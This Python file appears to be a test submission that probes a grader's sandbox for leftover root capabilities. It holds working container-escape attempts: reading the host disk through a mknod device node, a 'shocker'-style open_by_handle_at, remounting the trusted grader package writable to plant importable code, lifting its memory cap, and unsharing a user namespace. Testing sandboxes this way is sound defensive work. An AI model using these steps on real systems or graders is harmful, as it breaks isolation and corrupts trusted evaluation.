# What a submission graded by root could do with root's capabilities in the sandbox: make a
# device node of the host's disk and read it, open a host file by handle
# (open_by_handle_at needs only CAP_DAC_READ_SEARCH), remount the grader's read-only package
# writable and plant code there (the trusted grader imports that package), raise its own
# memory cap, or make a user namespace of its own. Each attempt that works makes halo_difference
# wrong, so a capability left to the sandbox costs points the test sees; the planted file is
# looked for by the test too.
import ctypes
import os
import resource
import stat
from pathlib import Path

import grader

libc = ctypes.CDLL(None, use_errno=True)
escaped = []

# 1. The disk the grader's package lies on, as a block device node, in a folder mounted
#    without nodev if mounting is allowed, else in /tmp.
device = os.stat(Path(grader.__file__).resolve()).st_dev
for folder in ("/tmp/devices-of-a-submission", "/tmp"):
    os.makedirs(folder, exist_ok=True)
    if folder != "/tmp":
        libc.mount(b"none", folder.encode(), b"tmpfs", 0, None)
    node = os.path.join(folder, "disk")
    try:
        os.mknod(node, stat.S_IFBLK | 0o600, device)
        with open(node, "rb") as disk:
            if disk.read(512):
                escaped.append("read the host's disk")
                break
    except OSError:
        pass

# 2. A file opened by its handle, found from a file it can see, as the "shocker" escape does
#    for files it cannot see.
class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_char * 128)]


handle, mount_id = FileHandle(handle_bytes=128), ctypes.c_int()
if libc.name_to_handle_at(-100, grader.__file__.encode(), ctypes.byref(handle),
                          ctypes.byref(mount_id), 0) == 0:
    mount_fd = os.open(os.path.dirname(grader.__file__), os.O_RDONLY)
    fd = libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY)
    if fd >= 0:
        escaped.append("opened a file by its handle")
        os.close(fd)
    os.close(mount_fd)

# 3. The grader's package remounted writable, and code planted next to it.
package = os.path.dirname(grader.__file__).encode()
MS_REMOUNT, MS_BIND = 32, 4096
libc.mount(None, package, None, MS_REMOUNT | MS_BIND, None)
try:
    (Path(grader.__file__).parent / "zz_planted_by_a_submission.py").write_text(
        "raise SystemExit('planted')\n")
    escaped.append("wrote into the grader's package")
except OSError:
    pass

# 4. Its own memory cap raised.
soft, hard = resource.getrlimit(resource.RLIMIT_AS)
try:
    if hard != resource.RLIM_INFINITY:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        escaped.append("raised its memory cap")
except (ValueError, OSError):
    pass

# 5. A user namespace of its own, where it would hold every capability again.
CLONE_NEWUSER = 0x10000000
if os.fork() == 0:
    os._exit(0 if libc.unshare(CLONE_NEWUSER) == 0 else 1)
if os.waitstatus_to_exitcode(os.wait()[1]) == 0:
    escaped.append("made a user namespace")

if escaped:
    print("escaped:", escaped)

    def halo_difference(x):
        return x
